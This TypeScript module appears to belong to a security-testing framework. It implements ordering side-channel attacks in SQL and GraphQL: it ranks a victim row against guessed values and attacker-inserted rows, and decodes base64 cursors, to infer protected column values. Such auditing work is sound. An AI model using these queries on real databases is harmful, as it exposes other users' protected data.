/** Orders: does a victim come before or after a value that the attacker knows, and beside which one? */
import type { Family } from '../channels/channel.ts';
import type { Victim } from '../targets.ts';
import { askOfGuesses, comparable, guess, guessTable, insertOwn, isVictim, literal, value, view } from './sql_text.ts';

export const sort: Family = {
  name: 'sort',
  async sql(scene) {
    const from = view(scene.relation);
    for (const target of scene.targets) {
      for (const victim of scene.victims) {
        // among values of the attacker's own: the one with the rank of the victim has its value
        const among = (of: Victim) => `select ${guess(target)} as c, g.guess as guess from ${guessTable(victim.guesses.get(target)!)} union all select ${value(target)}, null from ${from} v where ${isVictim(scene.relation, of)}`;
        await askOfGuesses(scene, target, victim,
          (of) => `with ranked as (select m.guess, rank() over (order by m.c) as r, dense_rank() over (order by m.c desc nulls last) as d, pg_catalog.count(*) over (partition by m.c) as n from (${among(of)}) m)
           select r.guess, r.r = v.r as by_rank, r.d = v.d as by_dense_rank, r.n as by_peers
             from ranked r, ranked v where v.guess is null and r.guess is not null`, 3);
        if (!comparable(target)) continue;
        const known = victim.guesses.get(target)!.map((text) => `(${literal(text)}::${target.type})`).join(', ');
        const near = await scene.ask(
          `select (select (pg_catalog.max(k.c))::text from (values ${known}) k (c) where k.c <= ${value(target)}) as below, (select (pg_catalog.min(k.c))::text from (values ${known}) k (c) where k.c >= ${value(target)}) as above
             from ${from} v where ${isVictim(scene.relation, victim)}`, known.length);
        const { below, above } = near.rows[0] ?? {};
        if (below && below === above) scene.claim(target, victim, below);
      }
      if (!scene.writes) continue;
      // among rows that the attacker writes
      const victim = scene.victims[0]!;
      const ids = new Map<string, string>();
      for (const text of victim.guesses.get(target)!) {
        const made = await scene.ask(insertOwn(scene.relation, { [target.column]: `${literal(text)}::${target.type}` }, `returning v.${scene.relation.key} as id`));
        if (made.error !== null) break;
        ids.set(made.rows[0]!['id'] as string, text);
      }
      if (ids.size < victim.guesses.get(target)!.length) continue;
      const { rows } = await scene.ask(`select v.${scene.relation.key} as id, rank() over (order by ${value(target)}) as r, pg_catalog.row_number() over (order by ${value(target)}) as n from ${from} v where v.${scene.relation.key} in (${[victim.id, ...ids.keys()].map(literal).join(', ')})`, ids.size);
      const rank = rows.find(({ id }) => id === victim.id)?.['r'];
      const beside = rows.filter(({ id, r }) => id !== victim.id && r === rank);
      if (beside.length === 1) scene.claim(target, victim, ids.get(beside[0]!['id'] as string) as string);
    }
  },
  async graphql(scene) {
    const { list, orderBy } = scene.names;
    for (const target of scene.targets) {
      const name = `${target.column.toUpperCase()}_ASC`;
      const reply = await scene.ask(`{ ${list}(first: 50, orderBy: [${name}]) { edges { cursor node { id } } } }`);
      if (!orderBy.includes(name)) continue;
      for (const victim of scene.victims) scene.claim(target, victim, decoded(reply.text));
    }
    // over relations, too
    for (const { list: others, relation } of scene.names.children) {
      for (const target of scene.targets) await scene.ask(`{ ${others}(first: 5, orderBy: [${`${relation}_${target.column}`.toUpperCase()}_ASC]) { nodes { id } } }`);
    }
  },
};

/** A text with all the base64 in it turned into what it says. */
export function decoded(text: string): string {
  return text.replaceAll(/[A-Za-z0-9+/_-]{8,}={0,2}/g, (coded) => `${coded} ${Buffer.from(coded, 'base64').toString('utf8')}`);
}
